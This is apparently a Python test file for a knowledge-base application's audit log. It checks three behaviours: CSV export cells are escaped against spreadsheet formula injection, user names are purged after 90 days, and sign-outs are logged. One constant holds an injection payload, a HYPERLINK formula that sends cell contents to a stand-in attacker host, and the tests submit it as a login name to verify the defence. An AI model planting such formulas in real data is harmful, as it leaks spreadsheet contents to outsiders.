"""The audit log's export and retention: formula-safe CSV cells, purged user names, sign-outs."""

from __future__ import annotations

import csv
import datetime as dt
import io

from conftest import login
from sqlalchemy import select

from kb.models import AuditEvent, utcnow
from kb.services import accounts, audit, auth
from kb.services.access import SYSTEM, Viewer

#: Typed into the login form as a user name: a spreadsheet would run it as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'


def _cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))


def test_every_text_column_is_defused():
    row = audit.AuditRow(utcnow(), "=1+1", "edit", "+Aktion", 7, "-2", "@SUM(A1)")
    cells = _cells(audit.as_csv([row]))[1]
    assert cells[1:] == ["'=1+1", "'+Aktion", "7", "'-2", "'@SUM(A1)"]
    for start in ("\t", "\r"):  # OWASP: tab and carriage return start a formula too
        row = audit.AuditRow(utcnow(), f"{start}=1", "edit", "a", None, "", "")
        assert _cells(audit.as_csv([row]))[1][1] == f"'{start}=1"
    harmless = audit.AuditRow(utcnow(), "anna", "login", "Angemeldet", None, "a-b", "203.0.113.9")
    assert _cells(audit.as_csv([harmless]))[1][1:] == [
        "anna",
        "Angemeldet",
        "",
        "a-b",
        "203.0.113.9",
    ]


def test_a_formula_typed_as_login_name_is_defused_in_both_exports(app, runner, add_user):
    add_user("chefin", "admin")
    visitor = app.test_client()
    visitor.post("/login", data={"username": FORMULA, "password": "egal"})
    admin = app.test_client()
    login(admin, "chefin")
    with admin.get("/admin/audit.csv") as response:
        web = response.get_data(as_text=True)
    console = runner.invoke(args=["audit", "export"]).output
    for export in (web, console):
        failed = [r for r in _cells(export) if r[2] == "Anmeldung fehlgeschlagen"]
        assert [r[1] for r in failed] == ["'" + FORMULA.lower()], export
        assert not any(cell.startswith("=") for r in _cells(export) for cell in r), export


def test_user_names_in_account_details_are_purged_with_the_rest(kb, add_user):
    """ "anna (Autor)" becomes "Konto Nr. N (Autor)": what happened stays, the name goes."""
    anna = add_user("anna.schmidt", "autor")  # one entry, now
    accounts.set_role(kb, "anna.schmidt", "redaktion", SYSTEM)
    auth.issue_reset_token(kb, "anna.schmidt", SYSTEM, utcnow())
    old = utcnow() - dt.timedelta(days=100)
    with kb.db.writing() as session:
        for entry in session.scalars(select(AuditEvent)):
            entry.at = old
        audit.record(session, "role_changed", SYSTEM, detail="gone: leser -> autor", at=old)
        audit.record(session, "edit", SYSTEM, detail="anna.schmidt bleibt", at=old)
    accounts.set_active(kb, "anna.schmidt", False, SYSTEM)  # fresh: keeps the name
    assert audit.purge_personal_data(kb, utcnow(), retention_days=90) == 5
    with kb.db.reading() as session:
        details = {
            (e.action, e.detail)
            for e in session.scalars(select(AuditEvent).order_by(AuditEvent.id))
        }
    assert details == {
        ("user_created", f"Konto Nr. {anna} (Autor)"),
        ("role_changed", f"Konto Nr. {anna}: autor -> redaktion"),
        ("reset_issued", f"Konto Nr. {anna}"),
        ("role_changed", "(Konto unbekannt): leser -> autor"),
        ("edit", "anna.schmidt bleibt"),  # not an account entry: free text is not parsed
        ("user_disabled", "anna.schmidt"),  # inside the retention period
    }
    assert audit.purge_personal_data(kb, utcnow(), retention_days=90) == 0


def test_sign_out_is_recorded(client, kb, add_user):
    uid = add_user("bert")
    assert client.post("/logout").status_code == 302  # anonymous: nothing to record
    login(client, "bert")
    assert client.post("/logout").status_code == 302
    with kb.db.reading() as session:
        entries = session.execute(
            select(AuditEvent.action, AuditEvent.user_id, AuditEvent.login_name)
            .where(AuditEvent.action.in_(("login", "logout")))
            .order_by(AuditEvent.id)
        ).all()
    assert [tuple(e) for e in entries] == [("login", uid, "bert"), ("logout", uid, "bert")]
    assert audit.ACTIONS["logout"] == "Abgemeldet"


def test_sign_out_of_the_console_viewer_is_not_recorded(kb):
    auth.sign_out(kb, Viewer())
    with kb.db.reading() as session:
        assert session.scalars(select(AuditEvent)).all() == []
